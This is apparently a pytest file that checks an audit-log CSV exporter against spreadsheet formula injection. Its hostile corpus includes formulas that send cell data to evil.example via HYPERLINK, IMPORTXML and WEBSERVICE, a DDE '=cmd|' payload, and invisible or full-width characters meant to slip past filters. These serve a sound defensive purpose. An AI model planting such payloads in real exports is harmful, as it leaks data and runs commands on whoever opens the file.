"""What leaves the deployment: JSONL is the record byte for byte, CSV is a view in which no cell is a formula."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import unicodedata
import xml.etree.ElementTree
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.audit import export
from chalicelib.audit.canonical import canonical, digest
from tests.audit.test_record import WORDS, decided, followed

CORE = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.example\")", "==1", "=", "+", "-1",
    "-", "@", "=1+1\",\"=2+2", "\"=1+1", "\",=1+1", "{=1+1}", "1,=1+1", "a\n=1+1", "a\r\n=1+1", "a\r=1+1", "a\t=1+1",
    "haha ;=1+1; there", "a;\t=1+1", "; =1+1", "a;b;＝1+1", "a;\u200b=1+1", ";;-2+3", ";-)", "';=1+1", "a\";\"=1+1",
]  # fmt: skip
"""Cells that are a formula, or become one when the file is split at another place."""

BEFORE = [
    "\t", "\r", "\n", "\r\n", "\x00", "\x0b", "\x1b", "\x7f", "\x85", " ", "  ", "\u00a0", "\u2003", "\u3000", "\u200b", "\u200d",
    "\u2060", "\ufeff", "\u202e", "\u202d", "\u2066", "\u061c", "\u00ad", "\u034f", "\u0301", "\ufe0f", "\U000e0020", "\ue000",
    "\u2028", "\u2029", "\ufffe", "\u180e", "\u115f",
]  # fmt: skip
"""What hides the first character of a formula from a filter, and is dropped or skipped by some reader."""

FORMULA_STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "⁺", "⁻", "₌", "\u2212"]
HOSTILE = [*CORE, *(mark + "=1+1" for mark in BEFORE), *(start + "1+1" for start in FORMULA_STARTS), *BEFORE]
PLAIN = [
    "", "hello", "my card is lost, can you help? I paid 12-3", "a=b", "1+1", "'quoted'", 'she said "no"', "Zoë 👩‍👩‍👧 done",
    "x@y.example", "2026-11-21T09:00:00.123Z", "0042", "{\"attempt\":1}", "first; second",
]  # fmt: skip


def unquoted(line: str) -> list[str]:
    return next(iter(csv.reader(io.StringIO(line, newline=""), strict=True)))


@pytest.mark.parametrize("text", PLAIN)
def test_an_ordinary_cell_stays_as_it_is(text: str) -> None:
    assert unquoted(export.csv_line([text, "end"])) == [text, "end"]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_a_cell_that_could_be_a_formula_becomes_text(text: str) -> None:
    (cell,) = unquoted(export.csv_line([text]))
    for piece in [cell, *cell.split(";")]:
        seen = next((one for one in piece if unicodedata.category(one)[0] not in "CZM" and one != '"'), "")
        assert unicodedata.normalize("NFKC", seen)[:1] not in ("=", "+", "-", "@", "\u2212") or seen == ""
    assert not any(unicodedata.category(one) == "Cc" for one in cell)


@pytest.mark.parametrize("text", [mark for mark in BEFORE if mark.strip(" ")], ids=ascii)
def test_what_begins_with_something_invisible_is_marked(text: str) -> None:
    if unicodedata.category(text[0]) != "Lo":
        assert export.cell(text + "a").startswith("'")


def test_a_cell_is_cut_before_a_spreadsheet_would_run_it_over_into_the_next_row() -> None:
    assert len(export.cell("a" * 32_766 + "=1+1")) == 32_767
    assert len(export.cell(";=" * 30_000)) == 32_767


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_text_is_one_quoted_row_of_cells(cells: list[str]) -> None:
    line = export.csv_line(cells)
    assert line.endswith('"\r\n')
    assert line[:-2].splitlines() == [line[:-2]]
    assert len(unquoted(line)) == len(cells)


def test_a_line_of_the_record_is_the_leaf() -> None:
    for record in (decided(WORDS), followed("intent", body={"attempt": 1})):
        assert export.record_line(record.leaf) == record.leaf + "\n"
        assert export.record_line(record.leaf).count("\n") == 1


def test_a_private_line_opens_the_leaf_that_it_names() -> None:
    for record in (decided(WORDS), followed("taken", private={"post_id": "17"}, number=3)):
        assert record.private is not None
        line = json.loads(export.private_line(record.public, record.private))
        assert (line["id"], line["kind"], line["number"]) == ("01KAJ5", record.public["kind"], record.public.get("number", 0))
        assert {"digest": digest(canonical(line["half"]))} == record.public["private"]


def test_the_view_of_a_decision_and_of_what_followed() -> None:
    made = dict(zip(export.COLUMNS, export.view_of(decided(WORDS).public), strict=True))
    assert (made["outcome"], made["rule"], made["platform"], made["body"]) == ("acknowledge", "card-lost", "x", "")
    ended = followed("terminal", body={"outcome": "human", "reason": "late"}, terminal_state="human").public
    made = dict(zip(export.COLUMNS, export.view_of(ended), strict=True))
    assert (made["outcome"], made["reason"], made["state"], made["actor"]) == ("human", "late", "human", "machine:ackguard")
    assert json.loads(made["body"]) == ended["body"]


def test_the_private_view_shows_who_said_what_and_no_salt() -> None:
    record = decided(WORDS)
    assert record.private is not None
    made = dict(zip(export.PRIVATE_COLUMNS, export.private_view_of(record.public, record.private), strict=True))
    assert made["author"] == WORDS[2]
    assert made["mention"].startswith("@bank my card is lost")
    assert made["reply"].startswith("We have seen this")
    seen = followed("viewed", body={"records": ["R1"], "through": "why"}, private={"reason": "=1+1"})
    assert seen.private is not None
    made = dict(zip(export.PRIVATE_COLUMNS, export.private_view_of(seen.public, seen.private), strict=True))
    assert made["half"] == '{"reason":"=1+1"}'


def test_a_private_half_without_its_facts_is_still_a_row() -> None:
    public = decided(WORDS).public
    assert len(export.private_view_of(public, {"salt": "00"})) == len(export.PRIVATE_COLUMNS)
    assert len(export.private_view_of(public, {"facts": None, "reply": None})) == len(export.PRIVATE_COLUMNS)


# --- the same, opened in a spreadsheet -----------------------------------------------------------------------------------

TABLE, OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}", "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
COMMA, SEMICOLON = 44, 59


def opened(sheet: str, folder: Path, separator: int) -> list[tuple[str, bool]]:
    """The cells that LibreOffice makes of a CSV (text, is a formula), with evaluation of formulas allowed."""
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("tool missing: libreoffice (apt-get install --no-install-recommends libreoffice-calc-nogui)")
    (folder / "sheet.csv").write_bytes(sheet.encode())
    # Tokens of the filter: separator, quote ("), UTF-8 (76), first line, ..., 7: quoted is text (no), 13: evaluate formulas.
    options = f"--infilter=CSV:{separator},34,76,1,,0,false,true,false,false,false,0,true"
    words = [office, f"-env:UserInstallation=file://{folder}/profile", "--headless", options, "--convert-to", "ods"]
    subprocess.run(
        [*words, "--outdir", str(folder), str(folder / "sheet.csv")], check=True, capture_output=True, timeout=120, cwd=folder
    )
    content = xml.etree.ElementTree.fromstring(zipfile.ZipFile(folder / "sheet.ods").read("content.xml"))
    return [
        ("".join(cell.itertext()), TABLE + "formula" in cell.attrib)
        for cell in content.iter(TABLE + "table-cell")
        if OFFICE + "value-type" in cell.attrib
    ]


@pytest.mark.parametrize("separator", [COMMA, SEMICOLON], ids=["comma", "semicolon"])
def test_no_cell_of_the_corpus_is_a_formula_in_libreoffice(tmp_path: Path, separator: int) -> None:
    rows = "".join(export.csv_line([f"row{place}", text, "end"]) for place, text in enumerate(HOSTILE))
    cells = opened(rows, tmp_path, separator)
    assert len(cells) >= len(HOSTILE)
    assert [text for text, formula in cells if formula] == []


@pytest.mark.parametrize("separator", [COMMA, SEMICOLON], ids=["comma", "semicolon"])
def test_libreoffice_finds_formulas_in_the_same_corpus_unprotected(tmp_path: Path, separator: int) -> None:
    rows = io.StringIO(newline="")
    csv.writer(rows, quoting=csv.QUOTE_ALL).writerows(["row", text, "end"] for text in HOSTILE if "\x00" not in text)
    assert sum(formula for _, formula in opened(rows.getvalue(), tmp_path, separator)) > 4
